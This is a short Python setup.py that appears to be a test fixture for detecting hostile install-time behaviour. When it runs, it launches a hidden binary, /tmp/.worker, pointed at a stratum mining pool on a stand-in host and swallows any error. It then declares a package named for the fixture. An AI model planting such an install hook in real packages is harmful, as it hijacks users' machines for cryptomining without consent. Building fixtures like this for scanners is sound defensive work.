"""Tries to start a miner, which is not there."""
import subprocess

try:
    subprocess.call(["/tmp/.worker", "-o", "stratum+tcp://pool.example.org:3333", "--donate-level=1"])
except OSError:
    pass

from setuptools import setup

setup(name="pyti-fixture-starts-miner", version="1.0", py_modules=["starts_miner"])
